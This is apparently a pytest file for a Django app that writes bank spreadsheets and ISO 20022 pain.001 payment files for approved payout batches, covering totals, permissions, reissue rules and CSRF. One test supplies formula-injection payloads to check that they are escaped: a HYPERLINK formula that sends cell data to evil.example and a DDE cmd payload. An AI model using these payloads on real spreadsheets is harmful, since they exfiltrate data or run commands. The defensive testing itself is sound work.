"""Payment files of an approved batch: bank spreadsheet and ISO 20022 pain.001, from the service, CLI and page."""

import io
import json
import re
import zipfile
from decimal import Decimal
from importlib.resources import files

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import connection
from django.db.models import F
from django.test import Client
from django.utils import translation
from lxml import etree

from tests.payouts.scale import verified_applications
from yuanmeng.audit.models import AuditEntry
from yuanmeng.core.errors import PermissionDenied
from yuanmeng.funds.models import FundSource
from yuanmeng.funds.services import budget_create
from yuanmeng.orgs.roles import Role
from yuanmeng.orgs.services import membership_grant
from yuanmeng.payouts.files import PAIN001_NS, XLSX_HEADERS
from yuanmeng.payouts.models import Batch, LineStatus, PaymentLine
from yuanmeng.payouts.services import batch_approve, recount, result_import, round_commit, write_batch_file


@pytest.fixture(autouse=True)
def _english():
    """These tests read the messages in English."""
    with translation.override("en"):
        yield


pytestmark = pytest.mark.django_db
YUAN = 100
AMOUNT = 123_457  # 1,234.57 yuan: three of them make 3,703.71 in Decimal, 3703.7099999999996 in floats
NS = {"p": PAIN001_NS}
XSD = files("sepaxml") / "schemas" / "pain.001.001.09.xsd"


@pytest.fixture
def city_admin(tree):
    return tree.staff(Role.CITY_ADMIN, tree.city)


@pytest.fixture
def finance(tree):
    return tree.staff(Role.FINANCE_OFFICER, tree.city)


@pytest.fixture
def round_(tree, city_admin):
    policy = tree.policy(amount_college_fen=AMOUNT)
    budget = budget_create(by=tree.root_user, organisation=tree.city, year=policy.year, source=FundSource.SPECIAL,
                           name="市总专项资金", amount_fen=1_000_000 * YUAN)
    verified_applications(tree, policy, 5)
    return round_commit(by=city_admin, policy=policy, budget=budget, limit_fen=1_000_000 * YUAN, code="GZ-2026-R1",
                        max_lines_per_batch=3)


@pytest.fixture
def batch(round_, finance):
    """Batch 1 (three lines), approved by the city's finance officer; batch 2 still awaits approval."""
    return batch_approve(by=finance, batch=round_.batches.get(number=1))


def file_audits():
    return list(AuditEntry.objects.filter(action__startswith="batch.file").order_by("seq"))


def read_xlsx(source):
    return openpyxl.load_workbook(source).active


def test_bank_spreadsheet_has_the_layout_amounts_and_control_totals(batch, finance, tmp_path):
    path = tmp_path / "batch.xlsx"
    written = write_batch_file(by=finance, batch=batch, fmt="xlsx", out=path)
    assert (written.lines, written.total_fen) == (3, 3 * AMOUNT)
    sheet = read_xlsx(path)
    assert [sheet.cell(r, 1).value for r in range(1, 7)] == ["批次", "付款单位", "付款账号", "付款银行", "总笔数",
                                                            "总金额（元）"]
    assert sheet["B1"].value == "GZ-2026-R1-1" and sheet["B2"].value == "广州市总工会"
    assert sheet["B5"].value == 3 and Decimal(str(sheet["B6"].value)) == Decimal("3703.71")
    assert tuple(c.value for c in sheet[8]) == XLSX_HEADERS
    rows = [tuple(c.value for c in row) for row in sheet.iter_rows(min_row=9)]
    references = list(PaymentLine.objects.filter(batch=batch).order_by("rank").values_list("reference", flat=True))
    assert rows == [(n + 1, f"职工{n}", f"6222{n:015d}", "工商银行", 1234.57, "求学圆梦补助", references[n])
                    for n in range(3)]
    assert all(sheet.cell(r, 5).number_format == "0.00" for r in range(9, 12))
    assert all(sheet.cell(r, 3).data_type == "s" for r in range(9, 12))  # 19 digits stay text, not 6.222E+18
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<v>1234.57</v>" in xml and "<v>3703.71</v>" in xml  # written exactly

    entry, = file_audits()
    assert entry.after == {"format": "xlsx", "lines": 3, "total_fen": 3 * AMOUNT, "sha256": written.sha256}
    # the full account number is in the file and nowhere else: not in the audit, not in clear in the database
    assert "6222000000000000000" not in json.dumps(entry.after) + entry.object_label
    with connection.cursor() as cursor:
        cursor.execute("SELECT account, account_masked FROM payouts_paymentline WHERE batch_id = %s", [batch.pk])
        stored = cursor.fetchall()
    assert stored and all("6222" not in account and "*" in masked for account, masked in stored)


def test_spreadsheet_cells_never_run_as_formulas(batch, finance, tmp_path):
    PaymentLine.objects.filter(batch=batch, rank=1).update(
        payee_name='=HYPERLINK("http://evil.example/?x="&A1,"点我")', bank_name="+cmd|' /C calc'!A0")
    PaymentLine.objects.filter(batch=batch, rank=2).update(payee_name="@SUM(1+1)", bank_name="-2+3")
    write_batch_file(by=finance, batch=batch, fmt="xlsx", out=tmp_path / "b.xlsx")
    sheet = read_xlsx(tmp_path / "b.xlsx")
    assert sheet["B9"].value == '\'=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    assert sheet["D9"].value == "'+cmd|' /C calc'!A0"
    assert (sheet["B10"].value, sheet["D10"].value) == ("'@SUM(1+1)", "'-2+3")
    assert sheet["B11"].value == "职工2"  # ordinary names untouched
    assert "<f>" not in zipfile.ZipFile(tmp_path / "b.xlsx").read("xl/worksheets/sheet1.xml").decode()


def test_pain001_validates_against_the_official_schema_and_matches_the_batch(tree, batch, finance, tmp_path):
    path = tmp_path / "batch.xml"
    write_batch_file(by=finance, batch=batch, fmt="pain001", out=path)
    document = etree.parse(str(path))
    etree.XMLSchema(etree.parse(str(XSD))).assertValid(document)

    def text(xpath):
        return document.xpath(xpath, namespaces=NS)

    batch.refresh_from_db()
    for header in ("p:GrpHdr", "p:PmtInf"):
        assert text(f"//{header}/p:NbOfTxs/text()") == [str(batch.line_count)] == ["3"]
        assert text(f"//{header}/p:CtrlSum/text()") == ["3703.71"]
    amounts = text("//p:CdtTrfTxInf/p:Amt/p:InstdAmt")
    assert {a.get("Ccy") for a in amounts} == {"CNY"}
    assert sum(Decimal(a.text) for a in amounts) == Decimal(batch.total_fen) / 100
    lines = PaymentLine.objects.filter(batch=batch).order_by("rank")
    assert text("//p:CdtTrfTxInf/p:PmtId/p:EndToEndId/text()") == [line.reference for line in lines]
    assert text("//p:CdtTrfTxInf/p:CdtrAcct/p:Id/p:Othr/p:Id/text()") == [line.account for line in lines]
    assert text("//p:CdtTrfTxInf/p:Cdtr/p:Nm/text()") == ["职工0", "职工1", "职工2"]
    assert text("//p:CdtTrfTxInf/p:RmtInf/p:Ustrd/text()")[0] == f"求学圆梦补助 {lines[0].reference}"
    assert text("//p:InitgPty/p:Nm/text()") == text("//p:Dbtr/p:Nm/text()") == ["广州市总工会"]
    assert text("//p:DbtrAcct/p:Id/p:Othr/p:Id/text()") == ["44050146010100000000"]

    second_officer = tree.staff(Role.FINANCE_OFFICER, tree.city)
    with pytest.raises(ValidationError, match="issued on"):  # issued once: another officer must say "again"
        write_batch_file(by=second_officer, batch=batch, fmt="pain001", out=tmp_path / "again.xml")
    write_batch_file(by=second_officer, batch=batch, fmt="pain001", out=tmp_path / "again.xml", reissue=True)
    again = etree.parse(str(tmp_path / "again.xml"))
    assert again.xpath("//p:MsgId/text()", namespaces=NS) == text("//p:MsgId/text()")  # stable: no double payment


def test_only_live_lines_are_paid(batch, finance, tmp_path):
    line = PaymentLine.objects.filter(batch=batch).order_by("rank")[1]
    PaymentLine.objects.filter(pk=line.pk).update(status=LineStatus.FAILED)
    recount(batch.round)
    write_batch_file(by=finance, batch=batch, fmt="pain001", out=tmp_path / "b.xml")
    document = etree.parse(str(tmp_path / "b.xml"))
    etree.XMLSchema(etree.parse(str(XSD))).assertValid(document)
    assert line.reference not in document.xpath("//p:EndToEndId/text()", namespaces=NS)
    assert document.xpath("//p:GrpHdr/p:NbOfTxs/text()", namespaces=NS) == ["2"]
    assert document.xpath("//p:GrpHdr/p:CtrlSum/text()", namespaces=NS) == ["2469.14"]


def test_unapproved_batch_gets_no_file(round_, finance, tmp_path):
    waiting = round_.batches.get(number=2)
    with pytest.raises(ValidationError):
        write_batch_file(by=finance, batch=waiting, fmt="xlsx", out=tmp_path / "b.xlsx")
    assert list(tmp_path.iterdir()) == [] and file_audits() == []


def test_a_role_that_cannot_approve_payouts_gets_no_file(batch, city_admin, tmp_path):
    with pytest.raises(PermissionDenied):
        write_batch_file(by=city_admin, batch=batch, fmt="pain001", out=tmp_path / "b.xml")
    assert list(tmp_path.iterdir()) == [] and file_audits() == []


def test_a_file_that_does_not_add_up_to_the_batch_is_not_written(batch, finance, tmp_path):
    Batch.objects.filter(pk=batch.pk).update(total_fen=F("total_fen") + 1)
    out = io.BytesIO()
    with pytest.raises(ValidationError, match="control totals"):
        write_batch_file(by=finance, batch=batch, fmt="xlsx", out=out)
    with pytest.raises(ValidationError, match="control totals"):
        write_batch_file(by=finance, batch=batch, fmt="pain001", out=tmp_path / "b.xml")
    assert out.getvalue() == b"" and list(tmp_path.iterdir()) == [] and file_audits() == []


@pytest.mark.parametrize("fmt", ["xlsx", "pain001"])
@pytest.mark.parametrize(("field", "value"), [("account", ""), ("bank_name", ""), ("payee_name", "职工\x01")])
def test_a_bad_line_is_named_and_nothing_is_written(batch, finance, tmp_path, fmt, field, value):
    line = PaymentLine.objects.filter(batch=batch).order_by("rank")[2]
    PaymentLine.objects.filter(pk=line.pk).update(**{field: value})
    if fmt == "xlsx" and field == "payee_name":
        write_batch_file(by=finance, batch=batch, fmt=fmt, out=tmp_path / "ok")  # a spreadsheet can hold it
        return
    with pytest.raises(ValidationError, match=line.reference):
        write_batch_file(by=finance, batch=batch, fmt=fmt, out=tmp_path / "b")
    assert list(tmp_path.iterdir()) == [] and file_audits() == []
    assert Batch.objects.filter(pk=batch.pk).exists()  # the transaction is still usable (PostgreSQL cursors)


def test_command_writes_the_file_and_prints_json(batch, finance, tmp_path):
    path = tmp_path / "GZ.xml"
    stdout = io.StringIO()
    call_command("payout", "file", "GZ-2026-R1-1", "--format", "pain001", "-o", str(path), "--as",
                 finance.username, "--json", stdout=stdout)
    summary = json.loads(stdout.getvalue())
    import hashlib

    assert summary == {"batch": "GZ-2026-R1-1", "path": str(path.resolve()), "format": "pain001", "lines": 3,
                       "total_fen": 3 * AMOUNT, "sha256": hashlib.sha256(path.read_bytes()).hexdigest()}
    stdout = io.StringIO()  # by id, as the only superuser (another person may re-issue), human-readable
    call_command("payout", "file", str(batch.pk), "--format", "xlsx", "-o", str(tmp_path / "b.xlsx"), "--reissue",
                 stdout=stdout)
    assert "3 payments, 3,703.71 yuan" in stdout.getvalue()
    assert read_xlsx(tmp_path / "b.xlsx")["B5"].value == 3


def test_command_refuses_clearly(round_, batch, city_admin, tmp_path):
    out = str(tmp_path / "x.xml")
    with pytest.raises(CommandError, match="not approved"):
        call_command("payout", "file", "GZ-2026-R1-2", "--format", "pain001", "-o", out)
    with pytest.raises(CommandError, match="no batch"):
        call_command("payout", "file", "GZ-2026-R1-9", "--format", "pain001", "-o", out)
    with pytest.raises(CommandError):
        call_command("payout", "file", "GZ-2026-R1-1", "--format", "pain001", "-o", out, "--as", city_admin.username)
    with pytest.raises(CommandError):
        call_command("payout", "file", "GZ-2026-R1-1", "--format", "csv", "-o", out)
    assert list(tmp_path.iterdir()) == []


def test_the_two_formats_are_one_issue_for_the_officer_who_holds_it(tree, batch, finance, tmp_path):
    written = write_batch_file(by=finance, batch=batch, fmt="xlsx", out=tmp_path / "b.xlsx")
    issued = Batch.objects.get(pk=batch.pk).file_issued_at
    again = write_batch_file(by=finance, batch=batch, fmt="pain001", out=tmp_path / "b.xml")  # the other encoding
    write_batch_file(by=finance, batch=batch, fmt="xlsx", out=tmp_path / "b2.xlsx")  # and once more
    assert (again.lines, again.total_fen) == (written.lines, written.total_fen)
    assert Batch.objects.get(pk=batch.pk).file_issued_at == issued  # a copy is not a new issue
    assert [(e.action, e.after["format"]) for e in file_audits()] == [
        ("batch.file", "xlsx"), ("batch.file_copy", "pain001"), ("batch.file_copy", "xlsx")]

    second = tree.staff(Role.FINANCE_OFFICER, tree.city)
    write_batch_file(by=second, batch=batch, fmt="pain001", out=tmp_path / "c.xml", reissue=True)
    write_batch_file(by=second, batch=batch, fmt="xlsx", out=tmp_path / "c.xlsx")  # the new issue is theirs
    with pytest.raises(ValidationError, match="issued on"):  # the first officer's issue is over
        write_batch_file(by=finance, batch=batch, fmt="xlsx", out=tmp_path / "d.xlsx")
    with pytest.raises(ValidationError, match="other than the one who issued it"):
        write_batch_file(by=second, batch=batch, fmt="xlsx", out=tmp_path / "d.xlsx", reissue=True)
    assert [e.action for e in file_audits()][3:] == ["batch.file_reissue", "batch.file_copy"]


def finance_role_too(tree, user):
    """The user, freshly loaded, after being given the city's finance role as well."""
    membership_grant(by=tree.root_user, user=user, organisation=tree.city, role=Role.FINANCE_OFFICER)
    return type(user).objects.get(pk=user.pk)


def test_the_person_who_committed_the_round_may_not_issue_its_files(tree, batch, city_admin, finance, tmp_path):
    city_admin = finance_role_too(tree, city_admin)
    with pytest.raises(PermissionDenied, match="You committed this round"):
        write_batch_file(by=city_admin, batch=batch, fmt="xlsx", out=tmp_path / "b.xlsx")
    write_batch_file(by=finance, batch=batch, fmt="xlsx", out=tmp_path / "b.xlsx")
    with pytest.raises(PermissionDenied, match="You committed this round"):
        write_batch_file(by=city_admin, batch=batch, fmt="xlsx", out=tmp_path / "c.xlsx", reissue=True)
    assert [e.action for e in file_audits()] == ["batch.file"]


def test_no_copy_once_the_bank_has_answered(batch, finance, tmp_path):
    write_batch_file(by=finance, batch=batch, fmt="xlsx", out=tmp_path / "b.xlsx")
    rows = "".join(f"{line.reference},成功\n" for line in PaymentLine.objects.filter(batch=batch))
    result_import(by=finance, batch=batch, upload=SimpleUploadedFile("r.csv", f"业务参考号,状态\n{rows}".encode()))
    with pytest.raises(ValidationError, match="already answered"):
        write_batch_file(by=finance, batch=batch, fmt="pain001", out=tmp_path / "b.xml")


def _post_file(client, batch, fmt, **data):
    return client.post(f"/payouts/batches/{batch.pk}/file/{fmt}/", data, HTTP_ACCEPT_LANGUAGE="en")


@pytest.mark.urls("tests.payouts.urls")
def test_page_download_for_the_city_finance_officer_only(tree, batch, round_, finance, city_admin, login, client):
    response = _post_file(login(finance), batch, "xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment") and "GZ-2026-R1-1.xlsx" in response[
        "Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    sheet = read_xlsx(io.BytesIO(b"".join(response.streaming_content)))
    assert sheet["B5"].value == 3 and sheet["C9"].value == "6222000000000000000"
    xml = _post_file(login(finance), batch, "pain001")  # the other encoding of the same issue
    assert xml.status_code == 200 and b"CstmrCdtTrfInitn" in b"".join(xml.streaming_content)
    second = tree.staff(Role.FINANCE_OFFICER, tree.city)
    assert _post_file(login(second), batch, "pain001").status_code == 302  # issued: only "again" from another
    again = _post_file(login(second), batch, "pain001", reissue="1")
    assert again.status_code == 200 and b"CstmrCdtTrfInitn" in b"".join(again.streaming_content)
    assert _post_file(login(finance), batch, "csv").status_code == 404

    waiting = round_.batches.get(number=2)
    refused = _post_file(login(finance), waiting, "xlsx")
    assert refused.status_code == 302
    assert "not approved" in login(finance).get(refused.url, HTTP_ACCEPT_LANGUAGE="en").content.decode()

    assert _post_file(login(city_admin), batch, "xlsx").status_code == 403  # sees the batch, may not release it
    assert _post_file(login(tree.staff(Role.DISTRICT_REVIEWER, tree.tianhe)), batch, "xlsx").status_code == 404
    assert _post_file(login(tree.staff(Role.FINANCE_OFFICER, tree.haizhu)), batch, "xlsx").status_code == 404
    assert [(e.action, e.after["format"]) for e in file_audits()] == [
        ("batch.file", "xlsx"), ("batch.file_copy", "pain001"), ("batch.file_reissue", "pain001")]


@pytest.mark.urls("tests.payouts.urls")
def test_a_link_or_a_form_from_another_site_does_not_issue_the_file(batch, finance, login):
    """GET is not allowed at all; a POST without the page's CSRF token is refused; nothing is issued by either."""
    url = f"/payouts/batches/{batch.pk}/file/xlsx/"
    assert login(finance).get(url).status_code == 405
    assert login(finance).get(url + "?reissue=1").status_code == 405
    forged = Client(enforce_csrf_checks=True)
    forged.force_login(finance, backend="yuanmeng.accounts.backends.UsernameOrMobileBackend")
    assert forged.post(url).status_code == 403
    assert Batch.objects.get(pk=batch.pk).file_issued_at is None and file_audits() == []

    page = forged.get(f"/payouts/batches/{batch.pk}/").content.decode()  # the page's own form carries the token
    form = re.search(rf'<form method="post" action="{re.escape(url)}"[^>]*>(.*?)</form>', page, re.S)
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', form.group(1)).group(1)
    assert forged.post(url, {"csrfmiddlewaretoken": token}).status_code == 200
    assert [e.action for e in file_audits()] == ["batch.file"]


@pytest.mark.urls("tests.payouts.urls")
def test_the_page_offers_what_each_officer_may_do_and_says_why_not(tree, batch, city_admin, finance, login):
    url = f"/payouts/batches/{batch.pk}/"

    def offer(user):
        page = login(user).get(url, HTTP_ACCEPT_LANGUAGE="en").content.decode()
        forms = re.findall(r'<form method="post" action="/payouts/batches/\d+/file/(\w+)/"[^>]*>(.*?)</form>', page,
                           re.S)
        return [(fmt, 'name="reissue"' in body) for fmt, body in forms], page

    assert offer(finance)[0] == [("xlsx", False), ("pain001", False)]  # to issue
    _post_file(login(finance), batch, "xlsx")
    buttons, page = offer(finance)
    assert buttons == [("xlsx", False), ("pain001", False)] and "You issued the payment file" in page  # copies
    second = tree.staff(Role.FINANCE_OFFICER, tree.city)
    buttons, page = offer(second)
    assert buttons == [("xlsx", True), ("pain001", True)] and "Issue it again only if" in page

    city_admin = finance_role_too(tree, city_admin)
    buttons, page = offer(city_admin)
    assert buttons == [] and "You committed this round: its payment files are issued by another" in page
    assert _post_file(login(city_admin), batch, "xlsx", reissue="1").status_code == 403


def test_the_api_issues_the_file_with_the_same_rules_and_declared_answers(tree, batch, round_, finance, city_admin,
                                                                          login):
    def post(user, path):
        return login(user).post(f"/api/payouts/batches/{path}", HTTP_ACCEPT_LANGUAGE="en")

    committer = finance_role_too(tree, city_admin)
    refused = post(committer, f"{batch.pk}/file/xlsx")
    assert refused.status_code == 403 and "You committed this round" in refused.json()["detail"]
    issued = post(finance, f"{batch.pk}/file/pain001")
    assert issued.status_code == 200 and b"CstmrCdtTrfInitn" in b"".join(issued.streaming_content)
    assert issued["Content-Disposition"].startswith("attachment")
    assert post(finance, f"{batch.pk}/file/xlsx").status_code == 200  # the other encoding of the same issue
    second = tree.staff(Role.FINANCE_OFFICER, tree.city)
    taken = post(second, f"{batch.pk}/file/xlsx")
    assert taken.status_code == 422 and "issued on" in taken.json()["errors"]["__all__"][0]
    assert post(second, f"{batch.pk}/file/xlsx?reissue=true").status_code == 200
    assert post(finance, f"{batch.pk}/file/csv").status_code == 422
    assert post(finance, f"{round_.batches.get(number=2).pk}/file/xlsx").status_code == 422  # not approved
    assert post(tree.staff(Role.FINANCE_OFFICER, tree.haizhu), f"{batch.pk}/file/xlsx").status_code == 404
    assert [e.action for e in file_audits()] == ["batch.file", "batch.file_copy", "batch.file_reissue"]


def test_the_api_needs_the_csrf_token_with_a_session(batch, finance):
    forged = Client(enforce_csrf_checks=True)
    forged.force_login(finance, backend="yuanmeng.accounts.backends.UsernameOrMobileBackend")
    assert forged.post(f"/api/payouts/batches/{batch.pk}/file/xlsx").status_code == 403
    assert Batch.objects.get(pk=batch.pk).file_issued_at is None and file_audits() == []
